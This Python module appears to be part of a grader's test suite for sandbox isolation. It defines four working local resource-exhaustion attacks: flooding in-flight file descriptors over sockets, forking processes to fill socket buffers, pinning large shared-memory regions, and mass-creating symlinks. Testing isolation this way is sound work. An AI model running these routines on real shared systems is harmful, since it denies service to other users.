"""What the processes of one user share in the kernel, taken up by one of them; where workers have a user each, by its own."""
# mypy: ignore-errors

from __future__ import annotations

from typing import Any

from graders.trust.attacks import attack


@attack("in_one", "as many descriptors on their way through sockets as a user's processes may have")
def floods_descriptors(*args: Any, **kwargs: Any) -> Any:
    import array
    import socket
    import time

    here, there = socket.socketpair()
    held, many = [], array.array("i", [0] * 250)
    for at in range(4000):
        try:
            here.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many if at < 2 else many[:1])])
        except OSError:
            time.sleep(0.001)
        if at % 200 == 199:
            held.append((here, there))
            here, there = socket.socketpair()
    time.sleep(2)
    return 0


@attack("in_one", "more in the buffers of sockets than a worker may have of memory")
def fills_sockets(*args: Any, **kwargs: Any) -> Any:
    import os
    import socket
    import time

    for _ in range(40):
        try:
            if os.fork():
                continue
        except OSError:
            break
        held = []
        try:
            while True:
                for end in socket.socketpair():
                    held.append(end)
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                    end.setblocking(False)
                    try:
                        while end.send(bytes(1 << 16)):
                            pass
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(2)
        os._exit(0)
    time.sleep(2)
    return 0


@attack("in_one", "shared memory of which a page is kept, so that all of it stays")
def keeps_a_page_of_shared_memory(*args: Any, **kwargs: Any) -> Any:
    import ctypes
    import mmap
    import os
    import time

    libc, size, number = ctypes.CDLL(None), ctypes.c_size_t, ctypes.c_int
    libc.mmap.restype, libc.mmap.argtypes = (
        ctypes.c_void_p,
        [ctypes.c_void_p, size, number, number, number, ctypes.c_long],
    )
    libc.munmap.argtypes, libc.memset.argtypes = [ctypes.c_void_p, size], [ctypes.c_void_p, number, size]
    try:
        descriptor = os.open("/dev/zero", os.O_RDWR)
    except OSError:
        descriptor = -1
    flags = mmap.MAP_SHARED | (0 if descriptor >= 0 else mmap.MAP_ANONYMOUS)
    for _ in range(12):
        place = libc.mmap(None, 1 << 29, mmap.PROT_READ | mmap.PROT_WRITE, flags, descriptor, 0)
        if place not in (None, ctypes.c_void_p(-1).value):
            libc.memset(place, 1, 1 << 29)
            libc.munmap(place + mmap.PAGESIZE, (1 << 29) - mmap.PAGESIZE)
    time.sleep(1)
    return 0


@attack("in_one", "files without content, as many as there is time for")
def makes_empty_files(*args: Any, **kwargs: Any) -> Any:
    import os
    import time

    end, count = time.monotonic() + 1.5, 0
    while time.monotonic() < end:
        try:
            os.symlink("y" * 60, f"{count}")
        except OSError:
            break
        count += 1
    return count
